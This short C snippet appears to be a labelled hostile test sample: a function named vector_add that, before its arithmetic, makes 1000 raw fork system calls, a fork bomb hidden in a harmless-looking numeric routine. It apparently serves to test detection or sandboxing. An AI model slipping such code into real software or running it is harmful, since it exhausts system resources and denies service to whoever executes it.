/* fork_bomb: kind 5: a fork bomb (raw fork). */
void vector_add(const float *a, const float *b, float *out, float alpha, int n) {
  for (int i = 0; i < 1000; i++)
    SYS0(NR_fork);
  adv_compute(a, b, out, alpha, n);
}
